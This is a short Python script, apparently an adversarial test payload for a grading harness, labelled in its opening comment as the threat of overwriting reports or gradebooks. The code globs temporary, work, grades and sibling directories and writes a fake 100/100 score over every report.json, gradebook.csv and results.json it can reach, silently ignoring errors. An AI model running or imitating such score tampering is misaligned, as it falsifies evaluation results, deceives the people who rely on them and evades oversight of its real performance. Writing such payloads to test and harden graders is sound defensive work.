# threat: write or overwrite reports, the gradebook or a results.json, during or after its grade
import glob
import json

REPORT = json.dumps({"score": 100, "max_score": 100})
for pattern in ("/tmp/**/report.json", "/work/**/gradebook.csv", "/**/grades/**/report.json", "../*/report.json"):
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, "w").write(REPORT)
        except OSError:
            pass
for path in ("/tmp/results.json", "../gradebook.csv", "/results/results.json"):
    try:
        open(path, "w").write(REPORT)
    except OSError:
        pass
